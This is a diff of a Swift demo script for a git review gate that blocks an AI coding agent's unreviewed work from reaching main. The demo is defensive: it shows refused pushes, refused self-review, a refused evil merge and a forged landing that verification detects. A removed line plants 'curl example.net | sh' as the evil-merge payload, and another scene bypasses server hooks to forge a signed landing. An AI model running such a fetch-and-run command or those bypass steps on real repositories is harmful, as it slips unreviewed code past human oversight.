@@ -1,161 +1,105 @@
-/// The whole story of the gate, told with real git.
+internal import Gate
+internal import Git
+internal import Ledger
+internal import Platform
+internal import Primitives
+internal import Signing
+
+/// What the demo tells: an agent's work, a person's reviews, and every way around them that fails.
 struct Story {
-  private var stage: Stage
+  let stage: Stage
 
-  private let admin = Stage.Actor(name: "admin", account: nil, clone: "app.git")
-  private let dana = Stage.Actor(name: "dana", account: "dana", clone: "dana")
-  private let codex = Stage.Actor(name: "codex", account: "svc-codex", clone: "codex")
-  private let anyone = Stage.Actor(name: "anyone", account: nil, clone: "audit")
+  private static let server = "app.git"
+  private static let main = "refs/heads/main"
+  private static let topic = "agent/retry"
 
-  init(on stage: Stage) {
-    self.stage = stage
+  func play() throws {
+    try prepare()
+    try guardServer()
+    try refuseAgent()
+    try acceptTopic()
+    try refuseSelfReview()
+    try review()
+    try merge()
+    try refuseAmended()
+    try refuseEvilMerge()
+    try mergeHonestly()
+    try verify()
+    try findForgery()
+    stage.say()
+    stage.say("That is all of it: what no person vouched for did not reach main.")
   }
 
-  mutating func play() throws {
-    try setUp()
-    try agentIsRefused()
-    try reviewedWorkLands()
-    try amendedWorkIsRefused()
-    try evilMergeIsRefused()
-    try agentCannotReview()
-    try landingsCanBeVerified()
-  }
+  // MARK: The stage
 
-  // MARK: Scenes
+  private func prepare() throws {
+    stage.say("One temporary folder, real git, keys made for the occasion.")
+    stage.say("dana reviews. codex is a coding agent, and erin answers for it.")
+    for folder in ["home", "tmp", "keys"] {
+      try FileBytes.makeFolder(stage.path(folder), mode: 0o700)
+    }
+    try stage.write(
+      """
+      [init]
+      \tdefaultBranch = main
+      [gpg]
+      \tformat = ssh
+      [advice]
+      \tpushUpdateRejected = false
+      [protocol "file"]
+      \tallow = always
 
-  private mutating func setUp() throws {
-    let outside = Stage.Actor(name: "admin", account: nil, clone: ".")
-    try stage.write(Self.gitConfiguration, to: "gitconfig")
-    for name in ["dana", "erin", "codex"] {
+      """, to: "home/.gitconfig")
+    for actor in Stage.Actor.allCases {
       try stage.quietly(
-        outside, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f",
-        stage.path(name + ".key"))
+        actor, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", actor.rawValue, "-f",
+        stage.path("keys/\(actor.rawValue)"))
     }
-    stage.begin("A server, a policy, and hookkit's hooks")
-    try stage.run(outside, "git", "init", "--quiet", "--bare", "app.git")
-    try stage.quietly(outside, "git", "clone", "--quiet", "app.git", "dana")
-    try introduce(dana, "Dana", "dana@example.org")
-    try stage.quietly(dana, "git", "config", "commit.gpgSign", "true")
-    try commit(dana, "README", "An app.\n", "The first commit")
-    try stage.quietly(dana, "git", "push", "--quiet", "origin", "main")
-    try stage.quietly(admin, "mkdir", "-p", stage.path("app.git/hookkit"))
-    try stage.write(policy(), to: "app.git/hookkit/policy.toml")
-    stage.say(
-      "policy: dana and erin review; codex is an agent, erin its sponsor; main is protected")
-    try stage.run(admin, "hookkit", "install", "--server", "--host", "local")
-    try stage.quietly(outside, "git", "clone", "--quiet", "app.git", "codex")
-    try introduce(codex, "Codex", "svc-codex@example.org")
-  }
-
-  private mutating func agentIsRefused() throws {
-    stage.begin("An agent pushes to main and is refused; its own branch is its own")
-    try commit(codex, "retry.txt", "try again on 429\n", "Retry on 429")
-    try stage.run(codex, "git", "push", "origin", "main", expecting: .refused("HK101"))
-    try stage.run(codex, "git", "push", "origin", "main:agent/codex/retry")
-  }
-
-  private mutating func reviewedWorkLands() throws {
-    stage.begin("A person reviews it, signs, merges, and it lands")
-    let head = try stage.quietly(codex, "git", "rev-parse", "--short", "HEAD")
-    try stage.run(dana, "git", "fetch", "--quiet", "origin")
-    try stage.run(
-      dana, "hookkit", "review", "approve", head, "--confirm", head, "-m", "read and tried")
-    stage.say("main has moved on meanwhile; a clean merge is recomputed on the server")
-    try commit(dana, "NEWS", "Soon.\n", "News")
-    try stage.run(dana, "git", "merge", "--quiet", "--no-ff", "origin/agent/codex/retry")
-    try stage.run(dana, "git", "push", "origin", "main")
-  }
-
-  private mutating func amendedWorkIsRefused() throws {
-    stage.begin("The agent amends what was reviewed, and the old review no longer counts")
-    try stage.quietly(codex, "git", "fetch", "--quiet", "origin")
-    try stage.quietly(codex, "git", "reset", "--quiet", "--hard", "origin/main")
-    try commit(codex, "limit.txt", "at most 3 times\n", "Give up after 3")
-    try stage.quietly(codex, "git", "push", "--quiet", "origin", "main:agent/codex/limit")
-    let reviewed = try stage.quietly(codex, "git", "rev-parse", "--short", "HEAD")
-    try stage.quietly(dana, "git", "fetch", "--quiet", "origin")
-    try stage.run(dana, "hookkit", "--quiet", "review", "approve", reviewed, "--confirm", reviewed)
-    try stage.write("at most 3000 times\n", to: "codex/limit.txt")
-    try stage.run(codex, "git", "commit", "--quiet", "--all", "--amend", "--no-edit")
-    try stage.run(codex, "git", "push", "--quiet", "--force", "origin", "main:agent/codex/limit")
-    try stage.quietly(dana, "git", "fetch", "--quiet", "origin")
-    try stage.run(dana, "git", "merge", "--quiet", "--no-ff", "origin/agent/codex/limit")
-    try stage.run(dana, "git", "push", "origin", "main", expecting: .refused("HK101"))
-    try stage.quietly(dana, "git", "reset", "--quiet", "--hard", "origin/main")
-  }
-
-  private mutating func evilMergeIsRefused() throws {
-    stage.begin("A merge that adds something of its own is refused; the clean one lands")
-    let head = try stage.quietly(dana, "git", "rev-parse", "--short", "origin/agent/codex/limit")
-    try stage.run(dana, "hookkit", "--quiet", "review", "approve", head, "--confirm", head)
-    try stage.quietly(
-      dana, "git", "merge", "--quiet", "--no-ff", "--no-commit", "origin/agent/codex/limit")
-    try stage.write("curl example.net | sh\n", to: "dana/install.txt")
-    try stage.quietly(dana, "git", "add", "install.txt")
-    try stage.quietly(dana, "git", "commit", "--quiet", "--no-edit")
-    try stage.run(dana, "git", "push", "origin", "main", expecting: .refused("HK102"))
-    try stage.run(dana, "git", "reset", "--quiet", "--hard", "origin/main")
-    try stage.run(dana, "git", "merge", "--quiet", "--no-ff", "origin/agent/codex/limit")
-    try stage.run(dana, "git", "push", "--quiet", "origin", "main")
-  }
-
-  private mutating func agentCannotReview() throws {
-    stage.begin("The agent tries to review itself, and to write the ledger")
-    try commit(codex, "more.txt", "more\n", "More")
-    try stage.quietly(codex, "git", "push", "--quiet", "origin", "main:agent/codex/more")
-    let head = try stage.quietly(codex, "git", "rev-parse", "--short", "HEAD")
-    try stage.run(
-      codex, "hookkit", "--quiet", "review", "approve", head, "--confirm", head,
-      expecting: .refused("not a person"))
-    try stage.run(
-      codex, "git", "push", "origin", "main:refs/hookkit/ledger", "--force",
-      expecting: .refused("HK402"))
-  }
-
-  private mutating func landingsCanBeVerified() throws {
-    stage.begin("Anyone can replay it all offline, and a forged landing is found")
-    let outside = Stage.Actor(name: "anyone", account: nil, clone: ".")
-    try stage.run(outside, "git", "clone", "--quiet", "app.git", "audit")
-    try stage.run(anyone, "hookkit", "verify", "--remote", "origin")
-    stage.say("somebody with the server's disk moves main behind hookkit's back")
-    let work = try stage.quietly(codex, "git", "rev-parse", "--short", "HEAD")
-    try stage.run(
-      admin, "git", "-c", "core.hooksPath=/dev/null", "update-ref", "refs/heads/main", work)
-    try stage.run(
-      anyone, "hookkit", "verify", "--remote", "origin", expecting: .refused("refs/heads/main"))
-  }
-
-  // MARK: Props
-
-  private func introduce(_ actor: Stage.Actor, _ name: String, _ email: String) throws {
-    for (key, value) in [
-      ("user.name", name), ("user.email", email), ("gpg.format", "ssh"),
-      ("user.signingKey", stage.path(actor.clone + ".key")),
-    ] {
-      try stage.quietly(actor, "git", "config", key, value)
+    try stage.quietly(.admin, "git", "init", "--quiet", "--bare", Self.server)
+    for actor in [Stage.Actor.dana, .codex] {
+      try stage.quietly(
+        .admin, "git", "clone", "--quiet", Self.server, actor.rawValue)
     }
+    try stage.quietly(.dana, "git", "config", "user.signingkey", stage.path("keys/dana.pub"))
+    try stage.quietly(.dana, "git", "config", "commit.gpgsign", "true")
+    try stage.write("retries = 0\n", to: "dana/app.conf")
+    try commit(.dana, "Start")
+    try stage.quietly(.dana, "git", "push", "--quiet", "origin", "main")
+    try stage.quietly(.codex, "git", "pull", "--quiet", "origin", "main")
   }
 
-  private func commit(
-    _ actor: Stage.Actor, _ file: String, _ content: String, _ message: String
-  ) throws {
-    try stage.write(content, to: actor.clone + "/" + file)
-    try stage.quietly(actor, "git", "add", file)
-    try stage.quietly(actor, "git", "commit", "--quiet", "-m", message)
+  private func guardServer() throws {
+    stage.scene(1, "The server's main is guarded: agents' work needs a person's signed review.")
+    try FileBytes.makeFolder(stage.path("\(Self.server)/hookkit"), mode: 0o700)
+    try stage.write(policy(), to: "\(Self.server)/hookkit/policy.toml")
+    if FileBytes.kind(ServerRepository.organisationPath) != .missing {
+      // This machine's own organisation has no say in a story.
+      try stage.write(Self.organisation, to: "organisation.toml")
+      try stage.write(
+        stage.path("organisation.toml") + "\n", to: "\(Self.server)/hookkit/organisation")
+    }
+    try stage.run(.admin, "hookkit", "-q", "install", "--server", "--host", "local", Self.server)
+    let hooks = try FileBytes.names(in: stage.path("\(Self.server)/hooks"))
+    try stage.require(
+      "four hooks stand in \(Self.server), and main's present tip is on record",
+      ["pre-receive", "proc-receive", "reference-transaction", "post-receive"]
+        .allSatisfy(hooks.contains) && serverTip("refs/hookkit/landings") != nil)
   }
 
-  private static let gitConfiguration = """
-    [init]
-    \tdefaultBranch = main
-    [advice]
-    \tpushUpdateRejected = false
-    [protocol "file"]
-    \tallow = always
+  private static let organisation = """
+    version = 1
+    serial = 1
+    delegate = ["people"]
+
     """
 
   private func policy() throws -> String {
-    func key(_ name: String) throws -> String {
-      try stage.quietly(admin, "cat", stage.path(name + ".key.pub"))
+    func keys(_ actor: Stage.Actor) throws -> String {
+      """
+      emails = ["\(actor.email)"]
+      accounts = ["\(actor.rawValue)"]
+      keys = ["\(try stage.read("keys/\(actor.rawValue).pub"))"]
+      """
     }
     return """
       version = 1
@@ -163,22 +107,16 @@ struct Story {
       repository = "git.example.org/app"
 
       [people.dana]
-      emails = ["dana@example.org"]
-      accounts = ["dana"]
-      keys = ["\(try key("dana"))"]
+      \(try keys(.dana))
       roles = ["reviewer", "maintainer"]
 
       [people.erin]
-      emails = ["erin@example.org"]
-      accounts = ["erin"]
-      keys = ["\(try key("erin"))"]
+      \(try keys(.erin))
       roles = ["reviewer"]
 
       [agents.codex]
-      accounts = ["svc-codex"]
-      keys = ["\(try key("codex"))"]
+      \(try keys(.codex))
       sponsor = "erin"
-      may-push = ["refs/heads/agent/codex/**"]
 
       [[protect]]
       refs = ["refs/heads/main"]
@@ -186,5 +124,176 @@ struct Story {
       unverified = "agent"
 
       """
+  }
+
+  // MARK: The agent's work
+
+  private func refuseAgent() throws {
+    stage.scene(2, "The agent pushes to main, and is refused.")
+    try stage.write("retries = 3\n", to: "codex/app.conf")
+    try commit(.codex, "Retry on 429")
+    let before = try serverTip(Self.main)
+    try stage.run(
+      .codex, "git", "push", "origin", "main", expecting: .fails(1, saying: "HK101"))
+    try stage.require("main has not moved", serverTip(Self.main) == before)
+  }
+
+  private func acceptTopic() throws {
+    stage.scene(3, "It may push a branch of its own: nothing is lost.")
+    try stage.run(.codex, "git", "push", "origin", "main:\(Self.topic)")
+    try stage.require(
+      "\(Self.topic) is there", serverTip("refs/heads/\(Self.topic)") == tip(.codex, "main"))
+  }
+
+  private func refuseSelfReview() throws {
+    stage.scene(4, "It tries to review its own work, and is refused by its key and by its account.")
+    let work = try short(.codex, "main")
+    try stage.run(
+      .codex, "hookkit", "-q", "review", "approve", work, "--ref", "main", "--confirm", work,
+      expecting: .fails(1, saying: "not a person"))
+    try stage.run(
+      .codex, "git", "push", "origin", "main:refs/hookkit/ledger",
+      expecting: .fails(1, saying: "HK402"))
+    try stage.require("the ledger of reviews is empty", serverTip("refs/hookkit/ledger") == nil)
+  }
+
+  // MARK: The person's part
+
+  private func review() throws {
+    stage.scene(5, "A person reviews it: dana sees what she signs, and signs with her key.")
+    try stage.quietly(.dana, "git", "fetch", "--quiet", "origin")
+    let work = try short(.codex, "main")
+    try stage.run(
+      .dana, "hookkit", "review", "approve", work, "--ref", "main", "--confirm", work)
+    try stage.require("the review is in the ledger", serverTip("refs/hookkit/ledger") != nil)
+  }
+
+  private func merge() throws {
+    stage.scene(6, "main has moved on; she merges what was reviewed, and it lands.")
+    try stage.write("Soon.\n", to: "dana/NEWS")
+    try commit(.dana, "News")
+    try stage.run(
+      .dana, "git", "merge", "--quiet", "--no-ff", "-m", "Merge \(Self.topic)",
+      "origin/\(Self.topic)")
+    try stage.run(.dana, "git", "push", "origin", "main")
+    try stage.require(
+      "main is that clean merge, recomputed by the server",
+      serverTip(Self.main) == tip(.dana, "main"))
+  }
+
+  private func refuseAmended() throws {
+    stage.scene(7, "The agent amends what was reviewed: the old review no longer counts.")
+    try stage.quietly(.codex, "git", "pull", "--quiet", "--ff-only", "origin", "main")
+    try stage.write("retries = 3\nbackoff = 2\n", to: "codex/app.conf")
+    try commit(.codex, "Back off between retries")
+    try stage.quietly(.codex, "git", "push", "--quiet", "origin", "main:\(Self.topic)")
+    let reviewed = try short(.codex, "main")
+    try stage.run(
+      .dana, "hookkit", "-q", "review", "approve", reviewed, "--ref", "main", "--confirm", reviewed)
+    try stage.write("retries = 3\nbackoff = 0\n", to: "codex/app.conf")
+    try stage.run(.codex, "git", "commit", "--quiet", "--all", "--amend", "--no-edit")
+    try stage.quietly(.codex, "git", "push", "--quiet", "--force", "origin", "main:\(Self.topic)")
+    try stage.quietly(.dana, "git", "fetch", "--quiet", "origin")
+    let before = try serverTip(Self.main)
+    try stage.run(
+      .dana, "git", "push", "origin", "origin/\(Self.topic):main",
+      expecting: .fails(1, saying: "HK101"))
+    try stage.require("main has not moved", serverTip(Self.main) == before)
+  }
+
+  private func refuseEvilMerge() throws {
+    stage.scene(8, "Reviewed work, merged with a line that nobody reviewed: an evil merge.")
+    let work = try short(.codex, "main")
+    try stage.quietly(
+      .dana, "hookkit", "-q", "review", "approve", work, "--ref", "main", "--confirm", work)
+    try stage.run(
+      .dana, "git", "merge", "--quiet", "--no-ff", "--no-commit", "origin/\(Self.topic)")
+    try stage.write("retries = 3\nbackoff = 0\nbackdoor = yes\n", to: "dana/app.conf")
+    try stage.run(
+      .dana, "git", "commit", "--quiet", "--all", "-m", "Merge \(Self.topic)")
+    let before = try serverTip(Self.main)
+    try stage.run(
+      .dana, "git", "push", "origin", "main", expecting: .fails(1, saying: "HK102"))
+    try stage.require("main has not moved", serverTip(Self.main) == before)
+  }
+
+  private func mergeHonestly() throws {
+    stage.scene(9, "The same merge without that line lands.")
+    try stage.quietly(.dana, "git", "reset", "--quiet", "--hard", "origin/main")
+    try stage.run(
+      .dana, "git", "merge", "--quiet", "--no-ff", "-m", "Merge \(Self.topic)",
+      "origin/\(Self.topic)")
+    try stage.run(.dana, "git", "push", "origin", "main")
+    try stage.require("main is the merge", serverTip(Self.main) == tip(.dana, "main"))
+  }
+
+  // MARK: From outside
+
+  private func verify() throws {
+    stage.scene(10, "Anybody can check the server from a clone, with the server switched off.")
+    try stage.run(
+      .admin, "git", "clone", "--quiet", "--config",
+      "remote.origin.fetch=+refs/hookkit/*:refs/hookkit/remotes/origin/*", Self.server, "auditor")
+    let (here, away) = (stage.path(Self.server), stage.path("switched-off.git"))
+    try FileBytes.move(here, to: away)
+    defer { try? FileBytes.move(away, to: here) }
+    try stage.run(
+      .auditor, "hookkit", "verify", "--server-key",
+      stage.path("switched-off.git/hookkit/server-key.pub"))
+    stage.ok("every landing holds, judged again from the clone alone")
+  }
+
+  private func findForgery() throws {
+    stage.scene(11, "Somebody with the server's disk moves main and signs a landing of their own.")
+    let old = try serverTip(Self.main)
+    let evil = try stage.quietly(
+      .mallory, "git", "-C", Self.server, "commit-tree", "\(Self.main)^{tree}", "-p", Self.main,
+      "-m",
+      "Trust me")
+    try stage.run(
+      .mallory, "git", "-C", Self.server, "-c", "core.hooksPath=/dev/null", "update-ref", Self.main,
+      evil)
+    try forgeLanding(from: old, to: ObjectID(evil))
+    let key = try stage.read("\(Self.server)/hookkit/server-key.pub")
+    try stage.quietly(.auditor, "git", "config", "hookkit.serverKey", key)
+    try stage.run(
+      .auditor, "hookkit", "verify", "--remote", "origin",
+      expecting: .fails(1, saying: "another key"))
+    stage.ok("the forged landing is found and named")
+  }
+
+  /// Appends a landing as the server does, with a key that is not the server's.
+  private func forgeLanding(from old: ObjectID?, to new: ObjectID?) throws {
+    let directory = stage.path(Self.server)
+    let objects = try ObjectStore(gitDirectory: directory)
+    let references = try ReferenceStore(gitDirectory: directory)
+    guard let old, let new, let tip = try references.resolve(.landings) else {
+      throw stage.deviation("there is nothing to forge")
+    }
+    let last = try Landings(objects: objects).landing(at: tip).statement
+    let forged = try LandingStatement(
+      repository: last.repository, ref: last.ref, old: old, new: new, pusher: last.pusher,
+      policyDigest: last.policyDigest, ledger: last.ledger, coverage: last.coverage,
+      time: last.time, kind: .landing)
+    try ServerRecords(gitDirectory: directory).append([forged], signedBy: .generate())
+  }
+
+  // MARK: Looking
+
+  private func serverTip(_ name: String) throws -> ObjectID? {
+    try ReferenceStore(gitDirectory: stage.path(Self.server)).resolve(RefName(name))
+  }
+
+  private func tip(_ actor: Stage.Actor, _ revision: String) throws -> ObjectID? {
+    ObjectID(try stage.quietly(actor, "git", "rev-parse", revision))
+  }
+
+  private func short(_ actor: Stage.Actor, _ revision: String) throws -> String {
+    try tip(actor, revision)?.short ?? revision
+  }
+
+  private func commit(_ actor: Stage.Actor, _ message: String) throws {
+    try stage.quietly(actor, "git", "add", "--all")
+    try stage.quietly(actor, "git", "commit", "--quiet", "-m", message)
   }
 }
